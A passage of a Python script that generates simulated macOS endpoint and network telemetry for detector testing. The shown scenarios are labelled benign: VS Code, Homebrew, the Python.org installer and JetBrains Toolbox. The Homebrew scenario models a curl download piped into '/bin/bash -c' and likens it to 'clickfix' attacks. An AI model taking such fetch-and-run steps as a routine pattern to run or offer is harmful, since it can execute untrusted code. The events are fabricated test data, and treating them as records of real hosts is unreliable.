    h.connect(h.t("08:21:20.402113"), net, "13.107.246.40", 443, domain="code.visualstudio.com")
    zip_path, zip_node = chrome_like_download(h, chrome, "VSCode-darwin-universal.zip", 268_435_456,
                                              h.t("08:21:21.002287"), h.t("08:21:49.330115"))
    app = "Visual Studio Code.app"
    _, nodes = archive_extract(h, h.t("08:21:53.118027"), zip_path, zip_node, h.downloads,
                               app_items(app, "Electron", 128_404))
    src = f"{h.downloads}/{app}"
    dst = f"/Applications/{app}"
    # Finder moves it to /Applications (same volume: one rename; the quarantine stays, translocation does not apply)
    h.rename(h.t("08:22:10.661204"), d.finder, src, nodes[src], dst, h.dnode(h.t("08:22:10"), 40, uid=0, ino=3_100))
    exe_ino = nodes[f"{src}/Contents/MacOS/Electron"].ino
    opened = open_app(h, d, h.t("08:22:14.220118"), app_path=dst, exe_name="Electron",
                      bundle_id="com.microsoft.VSCode", app_node=replace(nodes[src]), flow="prompt",
                      translocate=False, team="UBF8T346G9",
                      binary_of=lambda path, dev: vendor(path, "com.microsoft.VSCode", "UBF8T346G9", 128_404,
                                                         exe_ino))
    code = opened.app
    helpers = electron_helpers(h, code.start_ns + 380 * MS, code, dst, "Code", "com.github.Electron",
                               "UBF8T346G9", kinds=("", "Renderer", "GPU", "Plugin"))
    # resolving the login-shell environment: $SHELL -i -l -c '<Electron> -p "<mark>" + JSON...' (run as node)
    mark = huuid(h.name, "mark").lower()[:12]
    command = f"'{code.binary.path}' -p '\"{mark}\" + JSON.stringify(process.env) + \"{mark}\"'"
    env = [*h.env_for(code), "ELECTRON_RUN_AS_NODE=1", "ELECTRON_NO_ATTACH_CONSOLE=1",
           "VSCODE_RESOLVING_ENVIRONMENT=1", "VSCODE_CLI=1"]
    t = code.start_ns + 1 * S + 104 * MS
    zsh = h.spawn(t, code, ZSH, ["/bin/zsh", "-i", "-l", "-c", command], env=env, cwd=h.home)
    ph = h.spawn(t + 9 * MS, zsh, PATH_HELPER, ["/usr/libexec/path_helper", "-s"], env=env, cwd=h.home)
    h.exit(t + 12 * MS, ph)
    node = h.exec(t + 61 * MS, zsh, code.binary, [code.binary.path, "-p",
                                                  f'"{mark}" + JSON.stringify(process.env) + "{mark}"'],
                  env=env, cwd=h.home)
    h.exit(t + 244 * MS, node)
    git = h.spawn(code.start_ns + 4 * S + 10 * MS, helpers["Plugin"], GIT, ["git", "--version"], cwd=h.home)
    h.exit(code.start_ns + 4 * S + 90 * MS, git)
    for i, (ip, domain) in enumerate((("13.107.246.40", "update.code.visualstudio.com"),
                                      ("13.107.42.18", "marketplace.visualstudio.com"),
                                      ("13.107.213.40", "main.vscode-cdn.net"))):
        h.connect(code.start_ns + (2_100 + 611 * i) * MS, helpers[""], ip, 443, domain=domain)
    return h, label(
        h, family="benign: Visual Studio Code", reporting=["https://code.visualstudio.com/docs/setup/mac"],
        malicious=False, route="zip", app="Google Chrome", stage3=code, egress=[], payload_files=[zip_path],
        note=benign_note("Chrome downloads the universal zip, Archive Utility extracts it, Finder moves the app to "
                         "/Applications (one rename) and it is opened there. On start VS Code (main executable "
                         "'Electron', team UBF8T346G9) resolves the login-shell environment by running "
                         "`/bin/zsh -i -l -c '<Electron> -p ...'` with ELECTRON_RUN_AS_NODE=1 (zsh runs "
                         "path_helper, then execs Electron as node), the extension host runs git --version, and "
                         "the network helper talks to visualstudio.com hosts. An interpreter under a freshly "
                         "downloaded app, by design."))


@scenario("benign-homebrew")
def benign_homebrew(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-25", -420, "kchen", "2026-03-24T16:02:44.711028", "192.168.7.12", 7_010,
             255_100, asid=100_033)
    d = daemons(h)
    del d
    _, networking, _ = start_safari(h, h.t("16:40:02.882103"))
    h.connect(h.t("16:40:40.102944"), networking, "185.199.110.153", 443, domain="brew.sh")
    terminal = h.launch(h.t("16:41:01.330228"), TERMINAL, bundle_id="com.apple.Terminal",
                        app_url="/System/Applications/Utilities/Terminal.app")
    zsh = terminal_shell(h, h.t("16:41:01.701122"), terminal, user_tty(h, h.t("16:41:01.7"), "/dev/ttys000"))
    url = "https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh"
    t = h.t("16:41:09.402218")
    fetch = h.spawn(t, zsh, CURL, ["curl", "-fsSL", url], cwd=h.home)
    h.connect(t + 31 * MS, fetch, "185.199.108.133", 443, domain="raw.githubusercontent.com",
              args=["curl", "-fsSL", url])
    h.exit(t + 402 * MS, fetch)
    script = "#!/bin/bash\n\n# We don't need return codes for \"$(command)\", only stdout is needed.\n" + "\n".join(
        f"# shellcheck disable=SC{2000 + i}\nhave_sudo_access_{i}() {{ :; }}" for i in range(120))
    bash = h.spawn(t + 420 * MS, zsh, BASH, ["/bin/bash", "-c", script], cwd=h.home)
    cursor = t + 6 * S + 118 * MS  # "Press RETURN/ENTER to continue", then the sudo password
    for args in (["/usr/bin/sudo", "-v"], ["/usr/bin/sudo", "/usr/bin/install", "-d", "-o", "root", "-g", "wheel",
                                           "-m", "0755", "/opt/homebrew"],
                 ["/usr/bin/sudo", "/bin/mkdir", "-p", "/opt/homebrew/bin", "/opt/homebrew/etc",
                  "/opt/homebrew/share"]):
        sudo = h.exec(cursor + 2 * MS, h.fork(cursor, bash), SUDO, args, cwd=h.home, cred=setuid_root(h))
        if len(args) > 2:
            tool = apple(args[1], f"com.apple.{args[1].rsplit('/', 1)[-1]}", 880_000 + hnum(args[1]) % 9_000,
                         118_000)
            done = h.spawn(cursor + 40 * MS, sudo, tool, args[1:], cwd=h.home, cred=sudo_root(h))
            h.exit(cursor + 52 * MS, done)
        h.exit(cursor + 90 * MS, sudo)
        cursor += 140 * MS
    git_real = apple("/Library/Developer/CommandLineTools/usr/bin/git", "com.apple.git", 996_100, 3_201_888)
    remote = apple("/Library/Developer/CommandLineTools/usr/libexec/git-core/git-remote-https", "com.apple.git",
                   996_130, 2_904_400)
    g = h.spawn(cursor, bash, GIT, ["git", "fetch", "--force", "origin"], cwd="/opt/homebrew")
    g = h.exec(cursor + 30 * MS, g, git_real, ["git", "fetch", "--force", "origin"], cwd="/opt/homebrew")
    r = h.spawn(cursor + 60 * MS, g, remote, ["git-remote-https", "origin", "https://github.com/Homebrew/brew"],
                cwd="/opt/homebrew")
    h.connect(cursor + 92 * MS, r, "140.82.112.3", 443, domain="github.com",
              args=["git-remote-https", "origin", "https://github.com/Homebrew/brew"])
    h.exit(cursor + 9 * S, r)
    h.exit(cursor + 9 * S + 40 * MS, g)
    cursor += 10 * S
    cache = f"{h.home}/Library/Caches/Homebrew"
    bottle = f"{cache}/portable-ruby-3.4.4.arm64_big_sur.bottle.tar.gz"
    args = ["/usr/bin/curl", "--disable", "--cookie", "/dev/null", "--globoff", "--show-error", "--user-agent",
            "Homebrew/4.6.3 (Macintosh; arm64 Mac OS X 26.3) curl/8.7.1", "--header", "Accept-Language: en",
            "--fail", "--retry", "3", "--location", "--remote-time", "--output", f"{bottle}.incomplete",
            "https://ghcr.io/v2/homebrew/portable-ruby/portable-ruby/blobs/sha256:"
            + _digest(h.name, "bottle").hex()]
    curl = h.spawn(cursor, bash, CURL, args, cwd="/opt/homebrew")
    h.connect(cursor + 40 * MS, curl, "140.82.113.34", 443, domain="ghcr.io", args=args)
    part = h.node(cursor + 380 * MS)
    h.create(cursor + 380 * MS, curl, f"{bottle}.incomplete", part)
    part = replace(part, size=11_811_160)
    h.close(cursor + 4 * S, curl, f"{bottle}.incomplete", part)
    h.exit(cursor + 4 * S + 3 * MS, curl)
    mv = h.spawn(cursor + 4 * S + 20 * MS, bash, apple("/bin/mv", "com.apple.mv", 879_960, 118_592),
                 ["mv", f"{bottle}.incomplete", bottle], cwd="/opt/homebrew")
    h.rename(cursor + 4 * S + 23 * MS, mv, f"{bottle}.incomplete", part, bottle, h.dnode(cursor, 3))
    h.exit(cursor + 4 * S + 24 * MS, mv)
    h.exit(cursor + 31 * S, bash)
    return h, label(
        h, family="benign: Homebrew", reporting=["https://brew.sh/"], malicious=False, route="clickfix",
        app="Terminal", stage3=bash, egress=[], payload_files=[bottle],
        note="The Homebrew one-liner the user copies from brew.sh (open in Safari) into Terminal: zsh runs curl for "
             "install.sh and /bin/bash -c with the script as one long argument; the script uses sudo, git (the "
             "xcode-select shim, then git-remote-https to github.com) and curl to ghcr.io, which writes into "
             "~/Library/Caches/Homebrew. The shape of clickfix-terminal, benign; Terminal is not an AN1316 app.")


@scenario("benign-python-pkg")
def benign_python_pkg(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-26", 60, "ewagner", "2026-03-25T06:30:00.118420", "192.168.2.104", 3_300,
             98_300, asid=100_014)
    d = daemons(h)
    _, networking, _ = start_safari(h, h.t("10:11:40.302287"))
    h.connect(h.t("10:12:30.118042"), networking, "151.101.0.223", 443, domain="www.python.org")
    pkg, node = safari_download(h, networking, "python-3.13.2-macos11.pkg", 73_400_320, h.t("10:12:31.402211"),
                                h.t("10:12:40.902117"))
    framework = "/Library/Frameworks/Python.framework/Versions/3.13"
    run = pkg_install(h, d, h.t("10:12:46.330021"), pkg, node, blocked=False, team="DJ3H93M7VJ",
                      pkg_ids=["org.python.Python.PythonFramework-3.13"],
                      payload=[(f"{framework}/Resources/Python.app/Contents/MacOS/Python", 69_024),
                               (f"{framework}/lib/python3.13/compileall.py", 20_618)])
    bash = run.shells[0]
    python = app_binary(f"{framework}/Resources/Python.app/Contents/MacOS/Python", "org.python.python",
                        "DJ3H93M7VJ", 46_500_100, 69_024, uid=0)
    t = bash.start_ns + 20 * MS
    for i, opt in enumerate(([], ["-O"], ["-OO"])):
        py = h.spawn(t, bash, python, [f"{framework}/bin/python3.13", *opt, "-E", "-s", "-Wi",
                                       f"{framework}/lib/python3.13/compileall.py", "-q", "-j0", "-f", "-x",
                                       "bad_coding|badsyntax|site-packages", f"{framework}/lib/python3.13"])
        t += 5 * S + 118 * MS + i * 402 * MS
        h.exit(t, py)
    h.exit(t + 30 * MS, bash)
    h.exit(t + 9 * S, run.installer)
    return h, label(
        h, family="benign: Python.org installer", reporting=["https://www.python.org/downloads/macos/"],
        malicious=False, route="pkg", app="Safari", stage3=replace(bash, binary=SH), egress=[],
        payload_files=[pkg],
        note=benign_note("A signed package (team DJ3H93M7VJ); its postinstall runs /bin/sh as root, which runs the "
                         "framework's python3.13 compileall three times. A shell and a Python interpreter under a "
                         "downloaded package, and no network."))


@scenario("benign-jetbrains-toolbox")
def benign_jetbrains_toolbox(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-27", 120, "mnovak", "2026-03-26T05:10:40.002118", "192.168.88.31", 2_920,
             90_044, asid=100_013)
    d = daemons(h)
    chrome, net, _ = start_chrome(h, h.t("09:02:20.110204"))
    h.connect(h.t("09:03:01.402187"), net, "18.245.31.57", 443, domain="download-cdn.jetbrains.com")
    dmg, node = chrome_like_download(h, chrome, "jetbrains-toolbox-2.6.1.40902-arm64.dmg", 94_371_840,
                                     h.t("09:03:02.004410"), h.t("09:03:14.118207"))
    vol = mount_dmg(h, d, h.t("09:03:19.502118"), dmg, node, "JetBrains Toolbox", blocks=47_104)
    tb, dst = dmg_copy_open(h, d, vol, h.t("09:03:27.004411"), "JetBrains Toolbox.app", "jetbrains-toolbox",
                            1_048_576, bundle_id="com.jetbrains.toolbox", signing_id="com.jetbrains.toolbox",
                            team="2ZEFAR8TH3")
    state = f"{h.home}/Library/Application Support/JetBrains/Toolbox/state.json"
    n = h.node(tb.start_ns + 2 * S)
    h.create(tb.start_ns + 2 * S, tb, state, n)
    h.close(tb.start_ns + 2 * S + 4 * MS, tb, state, replace(n, size=3_114))
    btmd = h.running(BTM_AGENT, pid=288 + hnum(h.name, "btm") % 20, start=h.boot_ns + 12 * S, cred=ROOT_CRED)
    h.es(tb.start_ns + 3 * S, btmd, "btm_launch_item_add", {
        "instigator": h.p(tb), "app": h.p(tb),
        "item": {"item_type": 1, "legacy": False, "managed": False, "uid": 501, "item_url": f"file://{url_quote(dst)}/",
                 "app_url": f"file://{url_quote(dst)}/"},
        "executable_path": tb.binary.path,
    })
    for i, (ip, domain) in enumerate((("52.17.41.120", "data.services.jetbrains.com"),
                                      ("18.245.31.57", "download-cdn.jetbrains.com"),
                                      ("52.18.240.11", "account.jetbrains.com"))):
        h.connect(tb.start_ns + (2_400 + 700 * i) * MS, tb, ip, 443, domain=domain)
    return h, label(
        h, family="benign: JetBrains Toolbox", reporting=["https://www.jetbrains.com/toolbox-app/"],
        malicious=False, route="dmg", app="Google Chrome", stage3=tb, egress=[], payload_files=[dmg],
        note=benign_note("Chrome downloads the Toolbox disk image (team 2ZEFAR8TH3); the app is copied to "
                         "/Applications and opened, writes its state under ~/Library/Application Support, registers "
                         "itself as a login item (ES btm_launch_item_add) and talks to jetbrains.com hosts."))


# -- output ----------------------------------------------------------------------------------------------------------

def outputs(names: list[str] | None = None) -> dict[Path, bytes]:
    files: dict[Path, bytes] = {}
    for name, build in SCENARIOS.items():
        if names and name not in names:
            continue
        h, expected = build()
        folder = CORPUS / name
        files[folder / "eslogger.jsonl"] = h.eslogger_bytes()
        if h.unified:
            files[folder / "unifiedlog.ndjson"] = h.unified_bytes()
        files[folder / "elastic-network.ndjson"] = h.ecs_bytes()
        files[folder / "expected.json"] = orjson.dumps(expected, option=orjson.OPT_INDENT_2) + b"\n"
    return files


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--check", action="store_true", help="verify the corpus is up to date; write nothing")
    parser.add_argument("scenario", nargs="*", help="only these scenarios (default: all)")
    args = parser.parse_args(argv)
    files = outputs(args.scenario or None)
    stale: list[Path] = []
    if args.check:
        for path, data in files.items():
            if not path.is_file() or path.read_bytes() != data:
                stale.append(path)
        folders = {path.parent for path in files}
        for folder in sorted(folders):
            stale.extend(extra for extra in sorted(folder.iterdir()) if extra not in files)
        if not args.scenario and CORPUS.is_dir():
            known = {CORPUS / name for name in SCENARIOS}
            stale.extend(extra for extra in sorted(CORPUS.iterdir()) if extra.is_dir() and extra not in known)
        for path in stale:
            print(f"out of date: {path.relative_to(ROOT)} (run scripts/make_corpus.py)", file=sys.stderr)
        return 1 if stale else 0
    for path, data in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    for folder in sorted({path.parent for path in files}):
        for extra in sorted(folder.iterdir()):
            if extra not in files:
                extra.unlink()
        lines = files[folder / "eslogger.jsonl"].count(b"\n")
        print(f"wrote {folder.relative_to(ROOT)} ({sum(1 for p in files if p.parent == folder)} files, "
              f"{lines} eslogger lines)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
